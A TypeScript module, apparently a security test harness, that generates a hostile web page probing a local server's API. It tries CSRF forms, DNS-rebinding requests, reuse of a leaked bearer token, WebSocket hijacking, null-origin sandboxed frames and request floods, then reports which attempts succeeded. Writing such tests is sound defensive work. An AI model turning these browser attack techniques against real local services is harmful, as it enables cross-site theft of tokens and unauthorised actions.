/** What the page is told: where the network is, its name by rebound DNS, and a token that leaked. */
export type PageTarget = { readonly port: number; readonly reboundHost: string; readonly token: string };

/** What one attack of the page came to: whether it read, opened or ran anything. */
export type PageResult = { readonly attack: string; readonly got: boolean };

/**
 * A hostile page: tries each way that a browser has to reach a server of this machine, then posts what it got to its own server.
 * Whether a request that it cannot read had an effect is for the network to tell.
 */
export const hostilePage = (target: PageTarget): string => `<!doctype html><meta charset="utf-8"><title>page</title><body><script>
const { port, reboundHost, token } = ${JSON.stringify(target)};
const base = 'http://127.0.0.1:' + port, rebound = 'http://' + reboundHost + ':' + port;
const me = '/api/v1/users/me', socket = '/socket/api/websocket?vsn=2.0.0';
const results = [];
const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 4000, false))]);
const attempt = async (attack, run) => {
  let got = false;
  try { got = (await soon(run())) === true; } catch { got = false; }
  results.push({ attack, got });
};
const reads = (url, options) => fetch(url, options).then((answer) => answer.type !== 'opaque' && answer.ok);
const opens = (url, protocols) => new Promise((resolve) => {
  const ws = new WebSocket(url, protocols);
  ws.onopen = () => { resolve(true); ws.close(); };
  ws.onerror = () => resolve(false);
});
const loads = (tag, attributes) => new Promise((resolve) => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = element.onloadeddata = () => resolve(tag !== 'iframe' && tag !== 'object');
  element.onerror = () => resolve(false);
  document.body.append(element);
  setTimeout(resolve, 1500, false);
});
const submits = (method, enctype, path) => new Promise((resolve) => {
  const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() });
  const form = Object.assign(document.createElement('form'), { method, enctype, action: base + path, target: frame.name });
  form.append(Object.assign(document.createElement('input'), { name: '{"thread":{"title":"', value: 'owned"}}' }));
  document.body.append(frame, form);
  form.submit();
  setTimeout(() => { try { resolve(frame.contentDocument.body.innerText.includes('usr_')); } catch { resolve(false); } }, 800);
});
const body = JSON.stringify({ thread: { title: 'owned' } });
const bearer = { authorization: 'Bearer ' + token };
const ws = base.replace('http', 'ws');
(async () => {
  await attempt('fetch', () => reads(base + me));
  await attempt('fetch without CORS', () => reads(base + me, { mode: 'no-cors' }));
  await attempt('fetch with credentials', () => reads(base + me, { credentials: 'include' }));
  await attempt('fetch with a guessed token', () => reads(base + me, { headers: { authorization: 'Bearer sat_guess' } }));
  await attempt('fetch with a leaked token', () => reads(base + me, { headers: bearer }));
  await attempt('fetch with a leaked token in the address', () => reads(base + me + '?token=' + token));
  await attempt('fetch by the name localhost', () => reads('http://localhost:' + port + me, { headers: bearer }));
  await attempt('fetch by a rebound name', () => reads(rebound + me, { headers: bearer }));
  await attempt('fetch by a rebound name without CORS', () => reads(rebound + me, { mode: 'no-cors' }));
  await attempt('post as text without CORS', () => reads(base + '/api/v1/teams/tea_x/threads', { method: 'POST', mode: 'no-cors', body }));
  await attempt('post as JSON', () => reads(base + '/api/v1/teams/tea_x/threads', { method: 'POST', headers: { ...bearer, 'content-type': 'application/json' }, body }));
  await attempt('put', () => reads(base + me, { method: 'PUT', headers: bearer, body }));
  await attempt('delete', () => reads(base + me, { method: 'DELETE', headers: bearer }));
  await attempt('control endpoint', () => reads(base + '/control', { method: 'POST', mode: 'no-cors', body: '{"do":"cut-sockets"}' }));
  await attempt('token endpoint', () => reads(base + '/oauth/token', { method: 'POST', mode: 'no-cors', body: 'grant_type=refresh_token' }));
  await attempt('beacon', async () => { navigator.sendBeacon(base + '/api/v1/teams/tea_x/threads', body); return false; });
  await attempt('long poll', () => reads(base + '/socket/api/longpoll?vsn=2.0.0&token=' + token));
  await attempt('XMLHttpRequest', () => new Promise((resolve) => {
    const asked = new XMLHttpRequest();
    asked.onload = () => resolve(asked.status === 200);
    asked.onerror = () => resolve(false);
    asked.open('GET', base + me);
    asked.send();
  }));
  await attempt('EventSource', () => new Promise((resolve) => {
    const source = new EventSource(base + me);
    source.onopen = () => resolve(true);
    source.onerror = () => { source.close(); resolve(false); };
  }));
  await attempt('image', () => loads('img', { src: base + me + '?token=' + token }));
  await attempt('script', () => loads('script', { src: base + me }));
  await attempt('style sheet', () => loads('link', { rel: 'stylesheet', href: base + me }));
  await attempt('frame', () => loads('iframe', { src: base + me }));
  await attempt('frame of a rebound name', () => loads('iframe', { src: rebound + me }));
  await attempt('object', () => loads('object', { data: base + me }));
  await attempt('video', () => loads('video', { src: base + me }));
  await attempt('module', () => import(base + me).then(() => true));
  await attempt('form by POST as text', () => submits('post', 'text/plain', '/api/v1/teams/tea_x/threads'));
  await attempt('form by GET', () => submits('get', 'application/x-www-form-urlencoded', me));
  await attempt('worker', () => new Promise((resolve) => {
    const code = 'fetch(' + JSON.stringify(base + me) + ',{headers:' + JSON.stringify(bearer) + '}).then((a)=>postMessage(a.ok),()=>postMessage(false))';
    new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({ data }) => resolve(data === true);
  }));
  await attempt('sandboxed frame of origin null', () => new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data === 'got'), { once: true });
    const code = '<script>fetch(' + JSON.stringify(base + me) + ',{headers:' + JSON.stringify(bearer) + '}).then((a)=>parent.postMessage(a.ok?"got":"no","*"),()=>parent.postMessage("no","*"))<\\/script>';
    document.body.append(Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts', srcdoc: code }));
  }));
  await attempt('WebSocket without a token', () => opens(ws + socket));
  await attempt('WebSocket with a guessed token', () => opens(ws + socket + '&token=sat_guess'));
  await attempt('WebSocket with a leaked token', () => opens(ws + socket + '&token=' + token));
  await attempt('WebSocket with a leaked token as subprotocol', () => opens(ws + socket, ['phoenix', 'base64url.bearer.phx.' + btoa(token).replaceAll('=', '')]));
  await attempt('WebSocket by a rebound name', () => opens(rebound.replace('http', 'ws') + socket + '&token=' + token));
  await attempt('200 WebSockets at once', () => Promise.all(Array.from({ length: 200 }, () => opens(ws + socket + '&token=' + token))).then((all) => all.includes(true)));
  await attempt('300 requests at once', () => Promise.all(Array.from({ length: 300 }, () => reads(base + me).catch(() => false))).then((all) => all.includes(true)));
  await fetch('/results', { method: 'POST', body: JSON.stringify(results) });
})();
</script>`;
